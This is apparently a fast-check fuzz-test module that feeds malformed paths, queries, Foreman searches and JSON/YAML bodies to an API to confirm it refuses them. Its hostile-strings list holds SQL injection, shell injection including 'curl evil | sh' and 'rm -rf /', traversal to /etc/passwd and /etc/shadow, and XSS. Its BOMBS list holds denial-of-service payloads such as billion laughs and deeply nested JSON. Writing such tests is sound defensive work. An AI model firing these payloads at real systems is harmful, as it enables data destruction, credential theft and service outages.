/**
 * fast-check arbitraries for the bad-input fuzz test: malformed path parameters, query strings,
 * Foreman searches and JSON bodies (arbitrary JSON, broken JSON text, other content types, and
 * valid bodies with one to three mutations), so that most requests are refused and some are valid.
 */
import fc from 'fast-check';

/**
 * Text beyond Latin-1 (4-byte emoji, CJK, Greek, right-to-left, combining marks, a family emoji of
 * joined code points): on a table left in latin1 each of these failed to store and answered 500.
 */
export const BEYOND_LATIN1 = ['café 💩', '日本語のテキスト', '东京 🏯', 'Ελληνικά', 'עברית', 'ℌ𝔢𝔩𝔩𝔬', 'é́ ñ̃', '👩‍👩‍👧‍👦', '한국어', `${'💩'.repeat(60)}`] as const;

/** Strings an attacker or a careless paste sends: SQL, shell, traversal, encodings, extremes. */
export const HOSTILE_STRINGS = [
  ...BEYOND_LATIN1,
  "' OR '1'='1",
  "'; DROP TABLE hosts; --",
  '" OR ""="',
  '1; DELETE FROM users',
  "name = 'x') UNION SELECT login, password_hash FROM users --",
  '%',
  '_',
  '\\',
  '$(reboot)',
  '`id`',
  'a; rm -rf /',
  'a && curl evil | sh',
  '> /etc/passwd',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/etc/shadow',
  '%2e%2e%2f',
  '\u0000',
  '\u202e',
  '💥',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e400',
  '9007199254740993',
  '0x10',
  ' 1',
  '1.5',
  '[]',
  '{}',
  '<script>alert(1)</script>',
] as const;

/** A string of any shape: printable, unicode, hostile, or very long. */
export const anyText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.integer({ min: 250, max: 12_000 }).map((n) => 'x'.repeat(n)) },
);

/** Fields and operators of the Foreman search languages here (hosts, jobs, audits, ...). */
const SEARCH_FIELDS = ['name', 'id', 'hostgroup', 'hostgroup_title', 'parent_hostgroup', 'smart_proxy', 'organization', 'location', 'last_seen', 'facts.osfamily', 'namespace', 'action', 'state', 'owner', 'description', 'type', 'auditable_id', 'login', 'colour', ''];
const SEARCH_OPERATORS = ['=', '!=', '~', '!~', '^', '!^', '<', '>', '<=', '>=', 'in', 'not in', 'IN', '==', ''];
const searchValue = fc.oneof(anyText, fc.constantFrom(...BEYOND_LATIN1), fc.constantFrom('web', 'base/web', '"quoted value"', "'single'", '(a, b)', '"unterminated', '2026-01-01', '3 days ago', '*', '%web%'));
const searchTerm = fc.tuple(fc.constantFrom(...SEARCH_FIELDS), fc.constantFrom(...SEARCH_OPERATORS), searchValue).map(([f, o, v]) => `${f} ${o} ${v}`.trim());

/** Foreman search strings: well-formed, half-formed and hostile. */
export const searchText: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.array(fc.tuple(fc.constantFrom(' and ', ' or ', ' AND ', ' and not ', ' ', ' ) or ( '), searchTerm), { minLength: 1, maxLength: 4 }).map((parts) => parts.map(([j, t], i) => (i === 0 ? t : j + t)).join('')) },
  { weight: 2, arbitrary: anyText },
  { weight: 1, arbitrary: fc.constantFrom('(', ')', '((name = a)', 'not', 'and', '= =', 'name =', 'name = "a', `name = ${'('.repeat(500)}`, 'x'.repeat(10_001)) },
);

const QUERY_KEYS = ['search', 'order', 'page', 'per_page', 'wait', 'since', 'after', 'limit', 'state', 'from', 'to', 'smart_proxy_id', 'thin', 'organization_id'];
const queryValue = fc.oneof(
  { weight: 3, arbitrary: searchText },
  { weight: 3, arbitrary: fc.oneof(fc.integer({ min: -5, max: 5 }).map(String), fc.constantFrom('1', '2', '1000', '1001', '0', '-1', '1.5', '1e9', 'abc', '', 'name DESC', 'id; DROP TABLE hosts', 'failed,running', 'succeeded,bogus', '2026-13-45', 'yesterday')) },
  { weight: 1, arbitrary: anyText },
);

/** A query string (without `?`): known and unknown keys, repeated keys, raw bad percent-encodings. */
export const queryString: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.array(fc.tuple(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...QUERY_KEYS) }, { weight: 1, arbitrary: fc.string({ maxLength: 10 }) }), queryValue), { maxLength: 4 }).map((pairs) => pairs.map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(v)}`).join('&')) },
  { weight: 1, arbitrary: fc.constantFrom('search=%', 'search=%zz', 'page=%E0%A4%A', 'per_page[]=1', 'search[a]=b', '&&&', '=', 'search') },
);

/** A path parameter: usually one that exists (chosen by the caller), else garbage. */
export const pathGarbage: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: anyText.map((s) => encodeURIComponent(s.slice(0, 300))) },
  { weight: 2, arbitrary: fc.integer({ min: -1000, max: 1_000_000_000 }).map(String) },
  { weight: 1, arbitrary: fc.constantFrom('%', '%zz', '%E0%A4%A', '..', '.', '%2e%2e', '1%00', 'Viewer', 'admin') },
);

/** One change to a valid JSON body. */
interface Mutation {
  at: number;
  kind: 'delete' | 'unknown_key' | 'replace' | 'long_string' | 'number' | 'hostile' | 'wrap_array' | 'null' | 'empty_object';
  key: string;
  value: unknown;
  number: number;
  text: string;
}

const mutation: fc.Arbitrary<Mutation> = fc.record({
  at: fc.nat(),
  kind: fc.constantFrom('delete', 'unknown_key', 'replace', 'long_string', 'number', 'hostile', 'wrap_array', 'null', 'empty_object'),
  key: fc.oneof(fc.string({ minLength: 1, maxLength: 12 }), fc.constantFrom('__proto__', 'constructor', 'timout', 'admin', 'id', 'password_hash')),
  value: fc.jsonValue({ maxDepth: 3 }),
  number: fc.constantFrom(-1, 0, 0.5, 1, 2 ** 31, 2 ** 53 + 1, 1e308, -1e308, 100_001),
  text: anyText,
});

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Every place in a JSON value (the root is []), objects and arrays included. */
function places(value: Json, at: Array<string | number> = []): Array<Array<string | number>> {
  const out = [at];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...places(v, [...at, i])));
  else if (value && typeof value === 'object') for (const [k, v] of Object.entries(value)) out.push(...places(v, [...at, k]));
  return out;
}

function applyMutation(body: Json, m: Mutation): Json {
  const all = places(body);
  const path = all[m.at % all.length];
  const replaceAt = (root: Json, p: Array<string | number>, make: (old: Json) => Json | undefined): Json => {
    if (p.length === 0) return make(root) ?? null;
    const [head, ...rest] = p;
    if (Array.isArray(root)) {
      const copy = [...root];
      const next = rest.length === 0 ? make(copy[head as number]) : replaceAt(copy[head as number], rest, make);
      if (next === undefined) copy.splice(head as number, 1);
      else copy[head as number] = next;
      return copy;
    }
    const copy = { ...(root as Record<string, Json>) };
    const next = rest.length === 0 ? make(copy[head as string]) : replaceAt(copy[head as string], rest, make);
    if (next === undefined) delete copy[head as string];
    else copy[head as string] = next;
    return copy;
  };
  switch (m.kind) {
    case 'delete':
      return replaceAt(body, path, () => undefined);
    case 'unknown_key':
      return replaceAt(body, path, (old) => (old && typeof old === 'object' && !Array.isArray(old) ? { ...old, [m.key]: m.value as Json } : old));
    case 'replace':
      return replaceAt(body, path, () => m.value as Json);
    case 'long_string':
      return replaceAt(body, path, () => 'y'.repeat(300 + (m.at % 20_000)));
    case 'number':
      return replaceAt(body, path, () => m.number);
    case 'hostile':
      return replaceAt(body, path, () => m.text);
    case 'wrap_array':
      return replaceAt(body, path, (old) => [old ?? null]);
    case 'null':
      return replaceAt(body, path, () => null);
    case 'empty_object':
      return replaceAt(body, path, () => ({}));
  }
}

/** A request body as sent on the wire. */
export interface WireBody {
  contentType: string;
  text: string;
  /** How it was made, for the figures. */
  kind: 'valid' | 'mutated' | 'json' | 'broken_json' | 'other_type' | 'none';
}

const BROKEN_JSON = ['{', '{"a":', '[1,2', '{"a":1,}', "{'a':1}", 'undefined', 'NaN', '\u0000', '{"a":"\\u12"}', `${'['.repeat(5000)}${']'.repeat(5000)}`, '{"__proto__":{"admin":true}}', '"just a string"', '42', 'null', 'true'];

/** Bodies for a route: its valid template (when it has one), mutated or not, and bodies of any other shape. */
export function bodyFor(template: Json | undefined): fc.Arbitrary<WireBody> {
  const json = (kind: WireBody['kind']) => (value: unknown): WireBody => ({ contentType: 'application/json', text: JSON.stringify(value), kind });
  const others: Array<fc.WeightedArbitrary<WireBody>> = [
    { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 4 }).map(json('json')) },
    { weight: 2, arbitrary: fc.constantFrom(...BROKEN_JSON).map((text): WireBody => ({ contentType: 'application/json', text, kind: 'broken_json' })) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'application/yaml', 'multipart/form-data; boundary=x'), fc.oneof(anyText, fc.constantFrom('a=1&job[namespace]=x', 'organizations: [a', '- - -', '{}', '<a/>'))).map(([contentType, text]): WireBody => ({ contentType, text, kind: 'other_type' })) },
    { weight: 1, arbitrary: fc.constant<WireBody>({ contentType: '', text: '', kind: 'none' }) },
  ];
  if (template === undefined) return fc.oneof(...others);
  return fc.oneof(
    { weight: 1, arbitrary: fc.constant(template).map(json('valid')) },
    { weight: 8, arbitrary: fc.array(mutation, { minLength: 1, maxLength: 3 }).map((ms) => json('mutated')(ms.reduce(applyMutation, template))) },
    ...others,
  );
}

export type { Json };

/** A request made to exhaust memory or stack: the refusal it must get is a 4xx, and the process lives on. */
export interface Bomb {
  name: string;
  method: 'POST';
  path: string;
  contentType: string;
  body: () => string;
}

/** Billion laughs: nine levels of ten aliases each, a billion strings once expanded. */
function billionLaughs(): string {
  const lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < 9; i++) lines.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(10).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
  return `${lines.join('\n')}\norganizations: *i\n`;
}

const YAML_IMPORT = { method: 'POST', path: '/api/v2/inventory/import', contentType: 'application/yaml' } as const;
const JSON_JOB = { method: 'POST', path: '/api/v2/remote_execution/jobs', contentType: 'application/json' } as const;

/**
 * YAML and JSON bombs (issue 24): the first one is what killed the ui-extension (out of memory,
 * 3 of 3 tries) before bodies were bounded in depth.
 */
export const BOMBS: readonly Bomb[] = [
  { name: 'YAML: 2 MB of [', ...YAML_IMPORT, body: () => `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}` },
  { name: 'YAML: 2 MB of {a: ', ...YAML_IMPORT, body: () => `${'{a: '.repeat(500_000)}1${'}'.repeat(500_000)}` },
  { name: 'YAML: 500,000 compact nested sequences', ...YAML_IMPORT, body: () => `organizations:\n${'- '.repeat(500_000)}x\n` },
  { name: 'YAML: block mappings 2,000 levels deep', ...YAML_IMPORT, body: () => Array.from({ length: 2000 }, (_, i) => `${' '.repeat(i)}a:`).join('\n') + ' 1\n' },
  { name: 'YAML: billion laughs', ...YAML_IMPORT, body: billionLaughs },
  { name: 'YAML: aliases of aliases of a large map', ...YAML_IMPORT, body: () => `base: &b {${Array.from({ length: 5000 }, (_, i) => `k${i}: v`).join(', ')}}\nhosts: [${Array(200).fill('{name: x, facts: *b}').join(', ')}]\n` },
  { name: 'YAML: a key of 4 MB', ...YAML_IMPORT, body: () => `"${'k'.repeat(4_000_000)}": 1\n` },
  { name: 'YAML: a quoted value of 15 MB', ...YAML_IMPORT, body: () => `organizations: ["${'v'.repeat(15_000_000)}"]\n` },
  { name: 'YAML: 17 MB, over the limit', ...YAML_IMPORT, body: () => `organizations:\n${'  - org\n'.repeat(2_200_000)}` },
  // Within every other bound: 8 million one-character items took the process past its 4 GB heap.
  { name: 'YAML: 16 MB of one-character items', ...YAML_IMPORT, body: () => `hosts: [${'1,'.repeat(8_000_000)}1]\n` },
  // The yaml library's duplicate-key check is quadratic: 1 MB of keys held the event loop for minutes.
  { name: 'YAML: a mapping of 100,000 keys', ...YAML_IMPORT, body: () => `${Array.from({ length: 100_000 }, (_, i) => `k${i}: 1`).join('\n')}\n` },
  { name: 'JSON: 5 MB of [', ...JSON_JOB, body: () => `${'['.repeat(2_500_000)}${']'.repeat(2_500_000)}` },
  { name: 'JSON: 100,000 levels of objects in the arguments', ...JSON_JOB, body: () => `{"job":{"namespace":"rpcutil","action":"ping","arguments":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}}}` },
  { name: 'JSON: 200,000 unknown keys', ...JSON_JOB, body: () => JSON.stringify({ job: Object.fromEntries(Array.from({ length: 200_000 }, (_, i) => [`k${i}`, i])) }) },
  { name: 'JSON: a key of 4 MB', ...JSON_JOB, body: () => JSON.stringify({ job: { [`k${'x'.repeat(4_000_000)}`]: 1 } }) },
  { name: 'JSON: 500,000 host ids', ...JSON_JOB, body: () => JSON.stringify({ job: { namespace: 'rpcutil', action: 'ping', targeting: { host_ids: Array.from({ length: 500_000 }, (_, i) => i + 1) } } }) },
  { name: 'JSON: 6 MB, over the limit', ...JSON_JOB, body: () => JSON.stringify({ job: { description: 'x'.repeat(6_000_000) } }) },
];
